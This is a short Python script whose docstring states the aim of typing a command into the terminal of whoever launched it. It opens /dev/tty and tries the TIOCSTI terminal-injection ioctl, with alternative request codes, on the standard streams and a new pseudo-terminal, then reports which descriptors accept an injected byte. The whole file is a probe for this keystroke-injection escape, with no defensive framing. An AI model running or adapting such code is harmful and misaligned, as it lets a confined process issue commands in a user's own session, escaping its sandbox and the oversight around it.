"""Type a command into the terminal of whoever started this."""

import fcntl
import os
import pty
import termios

try:
    os.open("/dev/tty", os.O_RDWR)
    print("got a terminal")
except OSError as trouble:
    print(trouble)
_, own = pty.openpty()
for number in (0, 1, 2, own):
    for call in (termios.TIOCSTI, 0x541C, termios.TIOCSTI | 0x100000000):
        try:
            fcntl.ioctl(number, call & 0xFFFFFFFF, b"x")
            print("got", number)
        except OSError as trouble:
            print(trouble)
